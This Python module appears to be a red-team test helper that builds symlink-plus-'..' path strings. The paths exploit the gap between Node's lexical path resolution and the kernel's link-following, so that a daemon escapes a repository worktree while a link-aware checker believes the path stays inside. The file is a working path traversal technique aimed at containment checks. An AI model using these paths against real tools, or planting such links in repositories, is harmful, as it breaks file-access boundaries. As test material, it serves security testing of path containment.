"""Paths a hostile repository spells so that two readings part (red-team helper-114).

1.18.33's tools resolve a relative path with Node's ``path.resolve``: ``..`` collapsed
by text before the kernel follows any link. Through a link the repository tracks to a
folder deep inside the worktree, ``hop/../../..`` leaves the worktree for the daemon
and stays inside it for a reader that follows links first.
"""

from __future__ import annotations

import os
from pathlib import Path

DEPTH = 24


def _hop(worktree: Path) -> str:
    """A link in the worktree to a folder DEPTH levels inside it (as a hostile repository
    would track it), and the ``..`` that leave the worktree lexically but not through it."""
    deep = worktree.joinpath("deep", *[f"d{i}" for i in range(DEPTH)])
    deep.mkdir(parents=True, exist_ok=True)
    hop = worktree / "hop"
    if not hop.is_symlink():
        os.symlink(deep.relative_to(worktree), hop)
    ups = len(worktree.parts)  # hop/.. is the worktree; then one .. per component to /
    assert ups < DEPTH
    return "hop/" + "../" * ups


def lexical_to(worktree: Path, target: Path) -> str:
    """A relative path from ``worktree`` that Node resolves to ``target`` and the kernel,
    following ``hop`` first, to a folder inside the worktree."""
    return _hop(worktree) + str(target).lstrip("/")
